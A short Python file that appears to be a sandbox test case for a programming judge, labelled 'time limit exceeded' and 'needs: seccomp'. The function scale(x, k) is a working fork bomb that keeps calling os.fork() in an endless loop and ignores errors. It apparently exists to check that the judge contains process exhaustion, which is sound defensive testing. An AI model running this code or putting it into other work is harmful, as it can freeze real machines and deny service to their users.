# time limit exceeded
# A fork bomb that does not give up.
# problem: hurry
# needs: seccomp
import os


def scale(x, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
